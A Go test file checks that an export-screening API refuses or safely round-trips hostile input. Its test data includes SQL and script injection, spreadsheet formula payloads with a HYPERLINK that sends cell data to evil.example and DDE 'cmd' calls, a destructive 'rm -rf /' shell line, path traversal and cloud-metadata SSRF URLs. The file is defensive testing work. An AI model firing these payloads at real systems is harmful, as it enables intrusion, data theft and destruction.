package api

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/hikiai/hikiai/rules"
	"github.com/hikiai/hikiai/screening"
	"github.com/hikiai/hikiai/screening/phone"
)

// Hostile input through the real handler (every default check, a name index,
// the embedded store): no 5xx, a 4xx that names the field, nothing stored on
// error; names carrying injection text are screened like any other and come
// back byte for byte.

func newHostileEnv(t *testing.T) *testEnv {
	t.Helper()
	settings, err := rules.Load("")
	if err != nil {
		t.Fatal(err)
	}
	lists := &screening.Lists{}
	set, err := screening.NewListSet([]screening.ListSnapshot{{Source: "meti_eul", Version: "1", Entries: []screening.Entry{
		{Source: "meti_eul", SourceID: "1", Kind: screening.KindOrganisation, Countries: []string{"CN"},
			Names: []screening.EntryName{{Value: "Harbin Institute of Technology"}, {Value: "ハルビン工業大学"}}},
	}}}, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	lists.Swap(set)
	checks := screening.DefaultChecks(settings, screening.CheckDeps{NormalizePhone: phone.E164})
	checks = append(checks, screening.NewDeniedPartyCheck(settings.DeniedParty, lists, nil))
	env := newTestEnv(t, checks...)
	env.engine.Lists = lists
	env.server.lists = lists
	return env
}

// hostileBody is a valid inquiry with one part replaced: set edits the
// decoded design body.
func hostileBody(ref string, set func(m map[string]any)) []byte {
	m := designInquiry(ref)
	delete(m, "received_at")
	set(m)
	b, err := json.Marshal(m)
	if err != nil {
		panic(err)
	}
	return b
}

func customer(m map[string]any) map[string]any { return m["customer"].(map[string]any) }

// deepArrays nests n arrays.
func deepArrays(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }

func TestHostileInputIsRefused(t *testing.T) {
	env := newHostileEnv(t)
	key := env.key(screening.RoleERP)
	manyItems := make([]any, 10_000)
	for i := range manyItems {
		manyItems[i] = map[string]any{"product": fmt.Sprintf("P-%d", i), "quantity": 1}
	}
	manyNames := make([]any, 10_000)
	for i := range manyNames {
		manyNames[i] = fmt.Sprintf("Affiliate %d Ltd", i)
	}
	manySpecs := map[string]any{}
	for i := range 10_000 {
		manySpecs[fmt.Sprintf("k%d", i)] = i
	}
	manyParties := make([]any, 10_000)
	for i := range manyParties {
		manyParties[i] = map[string]any{"name": fmt.Sprintf("Broker %d", i)}
	}
	for _, tc := range []struct {
		name   string
		body   []byte
		status int
		field  string // a field the error must name ("" for whole-body errors)
	}{
		{"body over 1 MiB", hostileBody("h-1", func(m map[string]any) { customer(m)["name"] = strings.Repeat("A", 2<<20) }), 413, ""},
		{"name of 300,001 characters", hostileBody("h-2", func(m map[string]any) { customer(m)["name"] = strings.Repeat("名", 300_001) }), 400, "customer.name"},
		{"name of 5,000 characters", hostileBody("h-3", func(m map[string]any) { customer(m)["name"] = strings.Repeat("x", 5000) }), 400, "customer.name"},
		{"address of 100,000 characters", hostileBody("h-4", func(m map[string]any) { customer(m)["address"] = strings.Repeat("1-2-3 ", 20_000) }), 400, "customer.address"},
		{"100,000 nested arrays", []byte(`{"customer":{"name":"Deep Ltd"},"items":` + deepArrays(100_000) + `}`), 400, "body"},
		{"100,000 nested arrays in specs", []byte(`{"customer":{"name":"Deep Ltd"},"items":[{"product":"P","quantity":1,"specs":{"x":` + deepArrays(100_000) + `}}]}`), 400, "body"},
		{"10,000 nested arrays in specs", []byte(`{"customer":{"name":"Deep Ltd"},"items":[{"product":"P","quantity":1,"specs":{"x":` + deepArrays(9_000) + `}}]}`), 400, "items[0].specs.x"},
		{"invalid UTF-8", []byte("{\"customer\":{\"name\":\"\xff\xfe Ltd\"},\"items\":[{\"product\":\"P\",\"quantity\":1}]}"), 400, "body"},
		{"overlong UTF-8 slash", []byte("{\"customer\":{\"name\":\"\xc0\xaf\"},\"items\":[{\"product\":\"P\",\"quantity\":1}]}"), 400, "body"},
		{"NUL in name", hostileBody("h-5", func(m map[string]any) { customer(m)["name"] = "ACME\x00Corp" }), 400, "customer.name"},
		{"escape sequence in name", hostileBody("h-6", func(m map[string]any) { customer(m)["name"] = "ACME \x1b[31mred\x1b[0m" }), 400, "customer.name"},
		{"DEL in end use", hostileBody("h-7", func(m map[string]any) { m["end_use"] = "school\x7f" }), 400, "end_use"},
		{"C1 control in item", hostileBody("h-8", func(m map[string]any) { m["items"].([]any)[0].(map[string]any)["description"] = "pu\u0085mp" }), 400, "items[0].description"},
		{"10,000 items", hostileBody("h-9", func(m map[string]any) { m["items"] = manyItems }), 400, "items"},
		{"10,000 affiliates", hostileBody("h-10", func(m map[string]any) { m["affiliates"] = manyNames }), 400, "affiliates"},
		{"10,000 intermediaries", hostileBody("h-11", func(m map[string]any) { m["intermediaries"] = manyParties }), 400, "intermediaries"},
		{"10,000 spec keys", hostileBody("h-12", func(m map[string]any) { m["items"].([]any)[0].(map[string]any)["specs"] = manySpecs }), 400, "items[0].specs"},
		{"number too large", []byte(`{"customer":{"name":"Big Ltd"},"items":[{"product":"P","quantity":1e400}]}`), 400, "body"},
		{"quantity beyond 1e12", hostileBody("h-13", func(m map[string]any) { m["items"].([]any)[0].(map[string]any)["quantity"] = 1e13 }), 400, "items[0].quantity"},
		{"name is a number", []byte(`{"customer":{"name":42},"items":[{"product":"P","quantity":1}]}`), 400, "customer.name"},
		{"name is an object", []byte(`{"customer":{"name":{"$ne":null}},"items":[{"product":"P","quantity":1}]}`), 400, "customer.name"},
		{"unknown field", []byte(`{"customer":{"name":"X","__proto__":{"admin":true}},"items":[{"product":"P","quantity":1}]}`), 400, "customer.__proto__"},
		{"top-level array", []byte(`[{"customer":{"name":"X"}}]`), 400, "body"},
		{"two JSON values", []byte(`{"customer":{"name":"X"},"items":[{"product":"P","quantity":1}]} {"x":1}`), 400, "body"},
		{"empty body", []byte(``), 400, "body"},
		{"null", []byte(`null`), 400, "customer.name"},
		{"empty object", []byte(`{}`), 400, "customer.name"},
		{"website with credentials", hostileBody("h-14", func(m map[string]any) { customer(m)["website"] = "https://admin:pw@169.254.169.254/" }), 400, "customer.website"},
		{"javascript website", hostileBody("h-15", func(m map[string]any) { customer(m)["website"] = "javascript:alert(1)" }), 400, "customer.website"},
		{"e-mail with a header injected", hostileBody("h-16", func(m map[string]any) { customer(m)["email"] = "a@b.cn\r\nBcc: victim@example.com" }), 400, "customer.email"},
		{"country of script", hostileBody("h-17", func(m map[string]any) { customer(m)["country"] = "<script>" }), 400, "customer.country"},
		{"reference of 10,000 characters", hostileBody(strings.Repeat("R", 10_000), func(map[string]any) {}), 400, "reference"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out ErrorBody
			resp := env.do("POST", "/v1/screenings", key, tc.body, &out)
			if resp.StatusCode != tc.status {
				t.Fatalf("status %d, want %d: %+v", resp.StatusCode, tc.status, out.Error)
			}
			if out.Error.Code == "" || out.Error.Message == "" {
				t.Errorf("error answer without code or message: %+v", out)
			}
			if tc.field != "" {
				if _, ok := out.Error.Fields[tc.field]; !ok {
					t.Errorf("error does not name %s: %+v", tc.field, out.Error)
				}
			}
			if len(out.Error.Message) > 4096 {
				t.Errorf("error message of %d bytes echoes the input", len(out.Error.Message))
			}
		})
	}
	// Nothing was stored by any of them.
	list, _, err := env.store.ListScreenings(context.Background(), screening.ScreeningFilter{Limit: 10})
	if err != nil {
		t.Fatal(err)
	}
	if len(list) != 0 {
		t.Errorf("refused requests stored %d screenings, first %+v", len(list), list[0].Result)
	}
	recs, err := env.store.Audit(context.Background(), screening.AuditFilter{Kind: screening.AuditScreening})
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 0 {
		t.Errorf("refused requests left %d screening audit records", len(recs))
	}
}

// Names and free text that carry SQL, HTML, spreadsheet formulas, shell
// syntax, bidi overrides and other tricks are ordinary text to the service:
// they screen (201) and come back exactly as sent.
func TestHostileTextRoundTrips(t *testing.T) {
	env := newHostileEnv(t)
	key := env.key(screening.RoleSales)
	for i, name := range []string{
		`Robert'); DROP TABLE screenings;--`,
		`' OR '1'='1`,
		`"; SHUTDOWN; --`,
		`<script>alert(document.cookie)</script>`,
		`<img src=x onerror=alert(1)> Trading`,
		`{{7*7}} ${7*7} #{7*7} Ltd`,
		`=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		`=cmd|' /C calc'!A0`,
		`+SUM(1+1)*cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)`,
		"\tTabbed Holdings",
		`＝ＣＭＤ（全角）株式会社`,
		"Harbin \u202eygolonhceT fo etutitsnI",
		"Zero\u200bWidth\u200dJoiner Ltd",
		"Ｈａｒｂｉｎ　Ｉｎｓｔｉｔｕｔｅ　ｏｆ　Ｔｅｃｈｎｏｌｏｇｙ",
		"ﾊﾙﾋﾞﾝ工業大学",
		"e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 combining",
		"🏭🔧 Emoji Works",
		`../../etc/passwd`,
		`$(rm -rf /) & | ; ` + "`id`",
		`%s%s%s%n %x`,
		`\u0000 literally`,
		strings.Repeat("長", 300),
	} {
		ref := fmt.Sprintf("inj-%d", i)
		body := hostileBody(ref, func(m map[string]any) {
			customer(m)["name"] = name
			customer(m)["address"] = name + ", 1-2-3 Keji Road"
			m["end_use"] = name
			m["end_user"] = map[string]any{"name": name, "country": "CN"}
		})
		var res screening.Result
		resp := env.do("POST", "/v1/screenings", key, body, &res)
		if resp.StatusCode != http.StatusCreated {
			t.Fatalf("%q: status %d", name, resp.StatusCode)
		}
		if resp.Header.Get("Content-Type") != "application/json; charset=utf-8" {
			t.Errorf("%q: Content-Type %q", name, resp.Header.Get("Content-Type"))
		}
		var back screeningView
		if resp := env.do("GET", "/v1/screenings/"+res.ID, key, nil, &back); resp.StatusCode != 200 {
			t.Fatalf("%q: GET %d", name, resp.StatusCode)
		}
		// Validation trims surrounding white space; nothing else changes.
		want := strings.TrimSpace(name)
		if back.Inquiry == nil || back.Inquiry.Customer.Name != want || back.Inquiry.EndUse != want ||
			back.Inquiry.EndUser == nil || back.Inquiry.EndUser.Name != want || !strings.HasPrefix(back.Inquiry.Customer.Address, want) {
			t.Errorf("%q came back changed: %+v", name, back.Inquiry)
		}
		// The raw answer never carries markup unescaped.
		raw := env.rawGet("/v1/screenings/"+res.ID, key)
		if bytes.Contains(raw, []byte("<script>")) || bytes.Contains(raw, []byte("<img")) {
			t.Errorf("%q: JSON answer carries raw HTML", name)
		}
	}
}

// rawGet returns the body of a GET as bytes.
func (e *testEnv) rawGet(path, key string) []byte {
	e.t.Helper()
	req, _ := http.NewRequest("GET", e.http.URL+path, nil)
	req.Header.Set("Authorization", "Bearer "+key)
	resp, err := e.http.Client().Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	var b bytes.Buffer
	b.ReadFrom(resp.Body)
	return b.Bytes()
}

// Other endpoints with hostile parameters answer 4xx (or an empty result),
// never 5xx.
func TestHostileQueries(t *testing.T) {
	env := newHostileEnv(t)
	key := env.key(screening.RoleAdmin)
	long := strings.Repeat("A", 100_000)
	for _, tc := range []struct{ method, path, body string }{
		{"GET", "/v1/search?q=" + long, ""},
		{"GET", "/v1/search?q=%FF%FE", ""},
		{"GET", "/v1/search?q=%00", ""},
		{"GET", "/v1/search?q=x&limit=99999999999999999999", ""},
		{"GET", "/v1/screenings?customer=" + long, ""},
		{"GET", "/v1/screenings?since=%27%20OR%201=1", ""},
		{"GET", "/v1/screenings?cursor=" + long, ""},
		{"GET", "/v1/screenings?cursor=%FF%00", ""},
		{"GET", "/v1/screenings/" + long, ""},
		{"GET", "/v1/screenings/..%2F..%2Fetc%2Fpasswd", ""},
		{"GET", "/v1/cases?status=%3Cscript%3E", ""},
		{"GET", "/v1/audit?limit=-1", ""},
		{"POST", "/v1/names/compare", `{"a":"` + strings.Repeat("[", 50) + `","b":"x"}`},
		{"POST", "/v1/names/compare", `{"a":"` + long + `","b":"x"}`},
		{"POST", "/v1/names/compare", "{\"a\":\"\xff\",\"b\":\"x\"}"},
		{"POST", "/v1/cases/case_x/decision", `{"decision":"clear","reason":"` + long + `"}`},
		{"POST", "/v1/webhooks", `{"url":"http://169.254.169.254/latest/meta-data","events":["` + long + `"]}`},
	} {
		resp := env.do(tc.method, tc.path, key, tc.body, nil)
		if resp.StatusCode >= 500 {
			t.Errorf("%s %.80s: %d", tc.method, tc.path, resp.StatusCode)
		}
	}
}
